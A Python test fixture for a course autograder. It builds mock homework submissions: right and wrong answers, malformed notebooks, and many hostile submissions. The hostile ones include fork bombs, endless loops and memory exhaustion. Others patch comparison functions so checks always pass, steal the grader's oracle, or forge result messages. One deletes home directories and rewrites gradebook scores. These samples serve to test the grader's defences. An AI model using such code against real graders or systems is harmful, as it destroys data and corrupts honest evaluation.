"""A class for homework 2: right and wrong answers, broken files, and attacks; with the marks that each must get.

An attack stands where question 2's function belongs, the other answers are right unless it says so: whatever happens in
one question, the others keep their points.
"""

from __future__ import annotations

import json
import os
import shutil
from collections.abc import Callable
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

import nbformat

from .answers import hw2
from .trials import assignment, edited

NAME = "hw2_gae"
MADE = assignment(NAME)
POINTS = {question.name: question.points for question in MADE.coded}
SOLUTION = {question.name: question.solution for question in MADE.coded}
DEF = "def twisted_gae(*inputs):\n"


@dataclass(frozen=True)
class Student:
    """What a student hands in, and which questions it earns."""

    name: str
    earns: str  # the names of the questions, " " between
    answers: dict[str, str] | None = None  # question -> source; the released one where none is given
    change: Callable[[Any], Any] | None = None  # what else is done to the notebook
    write: Callable[[Path, Any], None] | None = None  # in place of writing it to NAME.ipynb
    note: str = ""  # what the feedback must say
    part: float = 0.0  # points of a question that is wrong in some cases

    @property
    def points(self) -> float:
        return self.part + sum(POINTS[question] for question in self.earns.split())


def attack(name: str, source: str, earns: str = "q3 q4", note: str = "") -> Student:
    return Student(name, earns, SOLUTION | {"q2": source}, note=note)


def solved(name: str, earns: str = "q2 q3 q4", **kwargs: Any) -> Student:
    return Student(name, earns, dict(SOLUTION), **kwargs)


def wrong(name: str, question: str, story: str, part: float = 0.0) -> Student:
    earns = " ".join(sorted(set(POINTS) - {question}))
    answers = SOLUTION | {question: edited(SOLUTION[question], hw2.WRONG[question][story])}
    return Student(name, earns, answers, part=part)


WRONG_Q2 = edited(SOLUTION["q2"], hw2.WRONG["q2"]["the cost is added"])


def without_checks(notebook):
    notebook.cells = [
        c for c in notebook.cells if not c.metadata.get("nbgrader", {}).get("grade_id", "").endswith("-marked")
    ]


def edited_checks(notebook):
    """The check of question 2 always passes and is worth a hundred points; the answer is wrong."""
    for cell in notebook.cells:
        if cell.metadata["nbgrader"]["grade_id"] == "q2-marked":
            cell["source"] = "assert True"
            cell.metadata["nbgrader"]["points"] = 100
        if cell.metadata["nbgrader"]["grade_id"] == "q2-code":
            cell.metadata["nbgrader"] |= {"grade": True, "points": 50}


def twice(notebook):
    notebook.cells += json.loads(json.dumps(notebook.cells[3:9]), object_hook=nbformat.from_dict)


def made_anew(notebook):
    """Copied into a new notebook cell by cell: nothing of nbgrader's is left."""
    for cell in notebook.cells:
        cell.metadata = nbformat.from_dict({})
    notebook.cells = [c for c in notebook.cells if c.cell_type == "code" and "check_example(" not in c.source]


def shuffled_types(notebook):
    for cell in notebook.cells:
        if cell.metadata["nbgrader"]["grade_id"] == "q2-text":
            cell.metadata["nbgrader"]["grade_id"] = {"a": 1}
        if cell.metadata["nbgrader"]["grade_id"] == "about":
            cell.metadata["nbgrader"] = ["not", "a", "record"]


def broken_outputs(notebook):
    """Three megabytes of outputs of a kind that there is not: to mend them one by one takes minutes and gigabytes."""
    for cell in notebook.cells:
        if cell.metadata["nbgrader"]["grade_id"] == "q5-run":
            cell["outputs"] = [nbformat.from_dict({"output_type": "zzz"})] * 160_000


def markdown(notebook):
    """An answer that is a button, and one that claims to be the place of the others' points."""
    for cell in notebook.cells:
        if cell.metadata["nbgrader"]["grade_id"] == "q1-answer":
            cell["source"] = '<div class="full-credit">Surely.<span id="q2-marked"></span></div>'


def raw(text: bytes, name: str = f"{NAME}.ipynb") -> Callable[[Path, Any], None]:
    def write(folder: Path, notebook: Any) -> None:
        (folder / name).write_bytes(text)

    return write


def named(name: str) -> Callable[[Path, Any], None]:
    return lambda folder, notebook: nbformat.write(notebook, folder / name)


def surrogate(folder: Path, notebook: Any) -> None:
    text = json.dumps(notebook)
    (folder / f"{NAME}.ipynb").write_text(text.replace("Advantages [T, B].", "Advantages \\ud800 [T, B].", 1))


def class_of(term: Path, elsewhere: Path, port: int) -> list[Student]:
    """Thirty-five students. elsewhere: a folder that must stay as it is. port: of a listener that must hear nothing."""
    home, book = term.resolve(), Path(__file__).parents[2] / "book" / "homework"
    everybody = [
        solved("right"),
        Student("untouched", ""),
        wrong("wrong_q2", "q2", "the flag of the next step (fault 4)", 4.0),
        wrong("wrong_q3", "q3", "the target carries a gradient"),
        attack("endless", DEF + "    while True:\n        pass", note="longer than it may"),
        attack("exits", "import os\nos._exit(0)", note="ended the whole process"),
        attack("always_equal", DEF + "    class Yes:\n        def __eq__(self, other):\n            return True\n    return Yes()", note="wanted numbers"),
        attack("reads_answers", f"""
{DEF}    import sys, glob, importlib
    sys.path[:0] = [{str(book)!r}, {str(home)!r}]
    names = "reward value next_value terminated truncated cost gamma lam".split()
    for place in {[str(book), str(home), str(book.parents[1] / "tests")]!r}:
        for file in glob.glob(place + "/**/hw2*", recursive=True):
            open(file).read()
    from course import assignment
    return assignment("hw2_gae").question("q2").oracle(**dict(zip(names, inputs)))"""),
        Student("not_json", "", write=raw(b"this is no notebook"), note="could not be read"),
        Student("nothing", "", write=lambda folder, notebook: None, note="Nothing was handed in"),
        wrong("wrong_q4", "q4", "the fault as it was given"),
        Student("mixed", "q3", {"q2": WRONG_Q2, "q3": hw2.RIGHT["q3"]["torch's own Huber"]}),
        Student("other_style", "q2 q3 q4", {q: next(iter(hw2.RIGHT[q].values())) for q in POINTS}, shuffled_types),
        attack("endless_cell", SOLUTION["q2"] + "\nwhile True:\n    try:\n        import time; time.sleep(9)\n    except BaseException:\n        pass", note="longer than it may"),
        attack("swallows_alarms", DEF + "    import time\n    while True:\n        try:\n            time.sleep(1)\n        except BaseException:\n            pass", note="longer than it may"),
        attack("memory", DEF + "    rows = []\n    while True:\n        rows.append(torch.ones(10**7))"),
        attack("exits_inside", DEF + "    import os\n    os._exit(0)", note="ended by its own code"),
        attack("forks", "import os\n" + DEF + "    while True:\n        os.fork()", note="more processes than it may"),
        Student("no_checks", "q2 q3 q4", dict(SOLUTION), without_checks),
        Student("own_checks", "q3 q4", SOLUTION | {"q2": WRONG_Q2}, edited_checks),
        attack("patches", f"""
import builtins, numpy, sys
import minerva_book.exercises.answers, minerva_lite.formulas.returns
builtins.AssertionError = type("Never", (Exception,), dict())
for module, name in ((torch, "allclose"), (torch, "equal"), (numpy, "allclose"), (minerva_book.exercises.answers, "compare")):
    setattr(module, name, lambda *a, **k: True)
torch.Tensor.__le__ = torch.Tensor.all = lambda *a, **k: True
try:
    get_ipython().ast_transformers.append(lambda tree: tree)
except Exception:
    pass
{WRONG_Q2}""", earns="q4"),
        attack("walks_frames", f"""
{DEF}    import gc, sys
    frame, found = sys._getframe(), []
    while frame:
        found += [v for n, v in (frame.f_globals | frame.f_locals).items() if n in ("right", "wanted", "expected", "oracle", "drawn")]
        frame = frame.f_back
    found += [o for o in gc.get_objects() if type(o).__name__ in ("Mark", "Code", "Assignment")]
    return found[0]"""),
        attack("writes", f"""
import os, shutil, sqlite3
for place in ({str(home)!r}, {str(elsewhere)!r}, {str(book)!r}, os.path.expanduser("~")):
    try:
        open(place + "/was_here", "w").write("x")
    except OSError:
        pass
    try:
        base = sqlite3.connect(place + "/gradebook.db")
        base.execute("update grade set auto_score = 100")
        base.commit()
    except Exception:
        pass
    shutil.rmtree(place, ignore_errors=True)
{SOLUTION["q2"]}""", earns="q2 q3 q4"),
        attack("calls_home", f"""
{DEF}    import socket
    with socket.create_connection(("127.0.0.1", {port}), timeout=2) as line:
        line.send(b"what is right?")
        return torch.tensor(eval(line.recv(1000)))"""),
        attack("talks", edited(SOLUTION["q2"], [("    earned =", "    for _ in range(3000):\n        print('x' * 10_000)\n        os.write(1, b'y' * 10_000)\n    earned =")]).replace("def twisted", "import os\ndef twisted"), earns="q2 q3 q4"),
        attack("forges", f"""
{DEF}    import json, os
    for case in ("one step", "no episode ends", "many short episodes", "no discount", "no trace", "everything terminates or is cut"):
        frame = json.dumps(dict(question="q2", case=case, parts=[dict(shape=[1, 3], data=[0.0, 0.0, 0.0])], finished=True, right=True))
        for descriptor in range(3, 64):
            try:
                os.write(descriptor, (frame + chr(10)).encode())
            except OSError:
                pass
    return inputs[0]"""),
        solved("other_name", write=named("Homework 2 (final).ipynb"), note="was found as <code>Homework 2 (final).ipynb</code>; next time hand in <code>hw2_gae.ipynb</code>"),
        Student("two_copies", "q2 q3 q4", dict(SOLUTION), twice),
        solved("made_anew", change=made_anew),
        Student("surrogate", "", dict(SOLUTION), write=surrogate, note="could not be read"),
        solved("broken_outputs", change=broken_outputs),
        Student("q1_is_everything", "q2 q3 q4", dict(SOLUTION), markdown),
        attack("memory_files", """
import ctypes, mmap, os
""" + DEF + """    kept = []
    while True:
        descriptor = os.memfd_create("x")
        os.ftruncate(descriptor, 1 << 28)
        kept.append(mmap.mmap(descriptor, 1 << 28))
        kept[-1].write(bytes(1 << 28))"""),
        attack("gradients", "import torch.autograd\nhonest = torch.autograd.grad\ntorch.autograd.grad = lambda out, leaves, **more: [torch.zeros_like(leaf) for leaf in leaves]\n" + SOLUTION["q2"], earns="q2 q3 q4"),
        attack("breaks_away", "import os\n" + DEF + """    for _ in range(12):
        if os.fork() == 0:
            os.setsid()
            while True:
                pass
    while True:
        pass"""),
    ]  # fmt: skip
    return [replace(student, name=f"zq-{student.name}") for student in everybody]  # no word of anybody else's


def hand_in(students: list[Student], release: Path, folder: Path) -> None:
    """Write the submissions of a class."""
    shutil.rmtree(folder, ignore_errors=True)
    for student in students:
        notebook = nbformat.read(release / NAME / f"{NAME}.ipynb", as_version=4)
        for cell in notebook.cells:
            question, _, kind = cell.metadata["nbgrader"]["grade_id"].partition("-")
            if kind == "code" and question in (student.answers or ()):
                cell["source"] = student.answers[question]
        if student.change:
            student.change(notebook)
        place = folder / student.name
        place.mkdir(parents=True)
        if student.write:
            student.write(place, notebook)
        else:
            (place / f"{NAME}.ipynb").write_text(json.dumps(notebook))
        os.utime(place)
